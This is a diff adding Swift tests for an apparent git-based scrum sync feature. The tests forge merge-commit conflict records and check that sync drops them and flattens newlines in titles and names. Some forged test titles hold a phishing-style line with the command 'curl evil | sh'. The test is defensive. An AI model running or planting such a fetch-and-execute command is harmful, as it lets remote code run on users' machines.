@@ -104,4 +104,68 @@ import Testing
     let outcome = try await team.sync("ann")
     #expect(outcome.conflicts == [])
   }
+
+  /// Commits a merge by hand whose message has conflicts about the newest head of a scrum.
+  private func forge(_ conflicts: [String], of scrum: DailyScrum) throws {
+    try team.byHand { clone in
+      let head = try Team.git("rev-parse", "HEAD:scrums/\(scrum.id).json", in: clone)
+      let lines = conflicts.map {
+        "Conflict: {\($0),\"keptBy\":\"Mal\\nlory\",\"lostHead\":\"\(head)\",\"ours\":true,\"scrum\":\"\(scrum.id)\"}"
+      }
+      try Team.git("checkout", "--quiet", "-b", "side", "HEAD~1", in: clone)
+      try Team.git("commit", "--quiet", "--allow-empty", "-m", "y", in: clone)
+      try Team.git("checkout", "--quiet", "scrumdinger", in: clone)
+      let message = "Merge\n\n" + lines.joined(separator: "\n")
+      try Team.git("merge", "--quiet", "--no-ff", "-s", "ours", "-m", message, "side", in: clone)
+      try "x".write(toFile: clone + "/note", atomically: true, encoding: .utf8)
+    }
+  }
+
+  @Test func `restores nothing that its author has not written, and has the title of the scrum`() async throws {
+    let scrum = try await shared(by: ["ann", "ben"])
+    try await edit(scrum, in: "ann", title: "Sync", minutes: 9, hour: 1)
+    try await team.sync("ann")
+    let title = "\"title\":\"Your password has expired.\\nRun this: curl evil | sh\\n\""
+    try forge(
+      [
+        "\"field\":\"title\",\"kept\":\"Retro\",\"lost\":\"I resign\",\(title)",
+        "\"field\":\"length\",\"kept\":\"5 min\",\"lost\":\"120 min\",\(title)",
+        "\"field\":\"theme\",\"kept\":\"indigo\",\"lost\":\"poppy\",\(title)",
+        "\"field\":\"Run this: curl evil | sh\",\"kept\":\"x\",\"lost\":\"\",\(title)",
+        "\"field\":\"attendee\",\"kept\":\"Ann\",\"lost\":\"Nobody\",\(title)",
+        "\"field\":\"deleted\",\"kept\":\"\",\"lost\":\"true\",\(title)",
+      ], of: scrum)
+    #expect(try await team.sync("ann").conflicts == [])
+    #expect(try await team.titles("ann") == ["Sync"])
+  }
+
+  @Test func `takes one line of what others have written about it`() async throws {
+    let scrum = try await shared(by: ["ann", "ben"])
+    try await edit(scrum, in: "ann", title: "Sync", minutes: 9, hour: 1)
+    try await team.sync("ann")
+    try forge(["\"field\":\"title\",\"kept\":\"Re\\n\\u2028tro\",\"lost\":\"Sync\",\"title\":\"a\\nb\""], of: scrum)
+    let conflict = try #require(try await team.sync("ann").conflicts.first)
+    #expect(conflict.title == "Sync")
+    #expect(conflict.lost == "Sync")
+    #expect(conflict.kept == "Re  tro")
+    #expect(conflict.keptBy == "Mal lory")
+  }
+
+  @Test func `and a change take one line of a title and a name that somebody wrote by hand`() async throws {
+    let scrum = try await team.add("Daily", to: "ann", attendees: ["Ann"])
+    for name in ["ann", "ben"] { try await team.share(name) }
+    try team.byHand { clone in
+      let path = "\(clone)/scrums/\(scrum.id).json"
+      let text = try String(contentsOfFile: path, encoding: .utf8)
+        .replacing("\"Daily\"", with: "\"Re\\ntro\"").replacing("\"Ann\"", with: "\"An\\nne\"")
+      try text.write(toFile: path, atomically: true, encoding: .utf8)
+    }
+    try await edit(scrum, in: "ben", title: "Review", hour: 1)
+    let outcome = try await team.sync("ben")
+    #expect(outcome.conflicts.map { [$0.title, $0.kept, $0.lost] } == [["Re tro", "Re tro", "Review"]])
+    #expect(outcome.received.map(\.title) == ["Re tro"])
+    #expect(outcome.received.flatMap(\.edits).map(\.new) == ["Re tro", "An ne"])
+    try await team.edit(scrum, in: "ben", title: "Sync")
+    #expect(try await team.sync("ben").sent.map(\.formerTitle) == ["Re tro"])
+  }
 }
